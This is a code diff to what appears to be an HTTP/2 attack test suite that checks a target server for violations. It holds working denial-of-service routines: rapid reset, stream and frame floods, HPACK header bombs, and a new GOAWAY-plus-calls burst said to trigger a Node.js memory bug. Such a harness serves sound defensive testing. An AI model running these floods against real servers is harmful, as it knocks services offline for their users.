@@ -1,3 +1,4 @@
+import type { Socket } from 'node:net';
 import { type Attack, type Ground, inLanes } from './attack.js';
 import {
   callHeaders,
@@ -25,13 +26,14 @@ const endPing = frame(type.ping, 0, 0, Buffer.from('the last'));
 
 /**
  * Sends frames behind the preface, as fast as they are taken, and then a PING; resolves with what came back until that was answered, the
- * connection was closed, or `patienceMs` were over. The connection stays open until the target closes it.
+ * connection was closed, or `patienceMs` were over. The connection is then closed, or given to `held`.
  */
 async function assault(
   { target }: Ground,
   parts: Iterable<Uint8Array>,
-  patienceMs = 5_000,
+  patienceMs = 1_500,
   first: Uint8Array = settings(),
+  held?: Socket[],
 ): Promise<Buffer> {
   const socket = await target.open();
   const received: Buffer[] = [];
@@ -56,6 +58,8 @@ async function assault(
   }
   if (!isOver) socket.write(endPing);
   await over;
+  if (held === undefined) socket.destroy();
+  else held.push(socket);
   return Buffer.concat(received);
 }
 
@@ -85,28 +89,35 @@ async function rapidReset(ground: Ground): Promise<void> {
 /** Streams by the thousand on one session, and on many. */
 async function manyStreams(ground: Ground): Promise<void> {
   const watch = envelope(watchTransactions.binary);
+  // The limit holds once it was acknowledged.
+  const first = Buffer.concat([settings(), frame(type.settings, flag.ack, 0)]);
   const received = await assault(
     ground,
     times(1_000, (index) =>
       Buffer.concat([headersFrame(index * 2 + 1, watchBlock, false), frame(type.data, flag.endStream, index * 2 + 1, watch)]),
     ),
+    5_000,
+    first,
   );
-  const frames = framesIn(received);
-  const answered = new Set(frames.filter(({ kind }) => kind === type.headers).map(({ stream }) => stream)).size;
+  const answered = new Set(framesIn(received).flatMap(({ kind, stream }) => (kind === type.headers ? [stream] : []))).size;
   if (answered > 250) ground.violation(`${answered} of 1000 streams were served at once`);
-  await inLanes(ground.isShort ? 20 : 80, 20, async () => {
+  const held: Socket[] = [];
+  const sessions = ground.isShort ? 10 : 80;
+  await inLanes(sessions, 20, async () => {
     await assault(
       ground,
       times(250, (index) => headersFrame(index * 2 + 1, signBlock, false)),
-      10_000,
+      5_000,
+      settings(),
+      held,
     );
   });
-  ground.target.closeAll();
-  await inLanes(ground.isShort ? 10 : 40, 10, async () => {
+  for (const socket of held) socket.destroy();
+  await inLanes(sessions / 5, 8, async () => {
     await assault(
       ground,
       times(250, (index) => headersFrame(index * 2 + 1, listBlock, true)),
-      20_000,
+      5_000,
     );
   });
 }
@@ -155,8 +166,10 @@ async function floods(ground: Ground): Promise<void> {
       ),
     ),
   };
-  // Those who never read what they are answered, too.
-  for (const [, parts] of Object.entries(all)) await assault(ground, parts, 8_000);
+  const floodings = Object.values(all);
+  await inLanes(floodings.length, 3, async (index) => {
+    await assault(ground, floodings[index] ?? [], 5_000);
+  });
   const { target } = ground;
   for (const make of [
     () => frame(type.ping, 0, 0, Buffer.alloc(8)),
@@ -203,7 +216,7 @@ async function hpack(ground: Ground): Promise<void> {
     'a thousand cookies': Buffer.concat([call, headerBlock(Array.from({ length: 1_000 }, (): [string, string] => ['cookie', 'a']))]),
   };
   for (const block of Object.values(blocks)) {
-    await assault(ground, [headersFrame(1, block, true), headersFrame(3, getBlock, true)], 3_000);
+    await assault(ground, [headersFrame(1, block, true), headersFrame(3, getBlock, true)]);
     await assault(
       ground,
       times(200, (index) => headersFrame(index * 2 + 1, block, true)),
@@ -262,8 +275,8 @@ async function headers(ground: Ground): Promise<void> {
   ];
   await inLanes(lists.length, 8, async (index) => {
     const block = headerBlock(lists[index] ?? []);
-    await assault(ground, [headersFrame(1, block, true)], 3_000);
-    await assault(ground, [headersFrame(1, block, false), frame(type.data, flag.endStream, 1, Buffer.from('{"message":"m"}'))], 3_000);
+    await assault(ground, [headersFrame(1, block, true)]);
+    await assault(ground, [headersFrame(1, block, false), frame(type.data, flag.endStream, 1, Buffer.from('{"message":"m"}'))]);
   });
 }
 
@@ -330,9 +343,9 @@ async function order(ground: Ground): Promise<void> {
   ];
   await inLanes(turns.length, 8, async (index) => {
     const parts = turns[index] ?? [];
-    await assault(ground, parts, 3_000);
+    await assault(ground, parts);
     // Before any SETTINGS, and with the connection torn in the middle.
-    await assault(ground, parts, 3_000, Buffer.alloc(0));
+    await assault(ground, parts, 1_500, Buffer.alloc(0));
     const socket = await ground.target.open();
     socket.write(Buffer.concat([preface, settings(), open, ...parts]));
     ground.target.counts.requests += 1;
@@ -344,18 +357,42 @@ async function order(ground: Ground): Promise<void> {
   }
 }
 
+/**
+ * A GOAWAY and calls behind it, in one packet: Node refuses them while it reads them, and frees what it reads (nodejs/node#64113). It takes
+ * some hundred times for the damage to show.
+ */
+async function goaway(ground: Ground): Promise<void> {
+  const { target, isShort } = ground;
+  for (const code of [0, 2]) {
+    for (const before of [0, 1]) {
+      const calls = Array.from({ length: 20 }, (_, index) => headersFrame(index * 2 + 1, getBlock, true));
+      const away = frame(type.goaway, 0, 0, [...uint32(0), ...uint32(code)]);
+      const bytes = Buffer.concat([preface, settings(), ...calls.slice(0, before), away, ...calls.slice(before)]);
+      await inLanes(isShort ? 300 : 1_500, 8, async () => {
+        const socket = await target.open();
+        target.counts.requests += 20;
+        socket.resume().write(bytes);
+        await new Promise((resolve) => setTimeout(resolve, 3));
+        socket.destroy();
+      });
+    }
+  }
+}
+
 /** Readers whose windows are shut, or open a byte at a time. */
 async function shutWindows(ground: Ground): Promise<void> {
   const { target, isShort } = ground;
+  const held: Socket[] = [];
   await inLanes(isShort ? 10 : 40, 10, async () => {
     await assault(
       ground,
       times(250, (index) => headersFrame(index * 2 + 1, listBlock, true)),
-      3_000,
+      1_500,
       settings([4, 0]),
+      held,
     );
   });
-  target.closeAll();
+  for (const socket of held) socket.destroy();
   const socket = await target.open();
   socket
     .resume()
@@ -398,6 +435,7 @@ export const http2Attacks: readonly Attack[] = [
   { name: 'http2: HPACK', run: hpack },
   { name: 'http2: headers', run: headers },
   { name: 'http2: frames out of order', run: order },
+  { name: 'http2: GOAWAY and more', run: goaway },
   { name: 'http2: shut windows', run: shutWindows },
   { name: 'http2: sessions that come and go', run: sessions },
 ];
